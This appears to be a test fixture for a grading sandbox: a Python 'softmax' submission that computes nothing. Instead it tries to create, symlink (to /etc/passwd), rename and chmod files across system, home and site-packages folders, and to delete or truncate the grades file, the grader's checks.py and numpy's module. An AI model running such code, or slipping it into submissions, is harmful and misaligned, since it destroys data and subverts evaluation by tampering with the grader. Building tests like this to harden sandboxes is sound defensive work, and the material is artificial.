"""Writes, links, renames, truncates and makes files wherever a grader may look.

Function: softmax
Outcome: no marks
Never: ESCAPED
"""
import glob
import os
import site
import sys
import tempfile

import numpy as np

FOLDERS = {
    ".", "..", "/", "/tmp", "/dev/shm", "/var/tmp", "/run", "/dev/mqueue", "/tmp/out", "/tmp/cache", "/tmp/course",
    "/tmp/submissions", os.path.expanduser("~"), os.environ.get("HOME", "/"), os.path.dirname(np.__file__),
    os.path.dirname(os.path.dirname(np.__file__)), os.path.dirname(os.__file__), *site.getsitepackages(),
    *(p for p in sys.path if p),
}
ACTS = (
    lambda p: open(p, "wb").write(b"x"),
    lambda p: os.mkdir(p),
    lambda p: os.mkfifo(p),
    lambda p: os.symlink("/etc/passwd", p),
    lambda p: os.link(np.__file__, p),
    lambda p: os.rename(np.__file__, p),
    lambda p: os.open(os.path.dirname(p) or ".", os.O_TMPFILE | os.O_RDWR),
    lambda p: os.chmod(os.path.dirname(p) or ".", 0o777),
    lambda p: os.utime(os.path.dirname(p) or "."),
    lambda p: os.setxattr(os.path.dirname(p) or ".", "user.PWNED", b"x"),
    lambda p: tempfile.mkstemp(prefix="PWNED_", dir=os.path.dirname(p)),
)


def softmax(z):
    escaped = []
    for folder in FOLDERS:
        for name in ("PWNED_file", "PWNED_path.pth", "../PWNED_file"):
            for number, act in enumerate(ACTS):
                try:
                    act(os.path.join(folder, name))
                    escaped.append((folder, number))
                except OSError:
                    pass
    for path in ("/tmp/out/grades.csv", "/tmp/out/index.html", "/tmp/course/assignments/softmax/checks.py", np.__file__):
        for act in (os.unlink, lambda p: os.truncate(p, 0), lambda p: open(p, "r+b"), lambda p: os.chmod(p, 0)):
            try:
                act(path)
                escaped.append(path)
            except OSError:
                pass
    raise RuntimeError("ESC" f"APED: wrote {escaped}" if escaped else "nothing written")
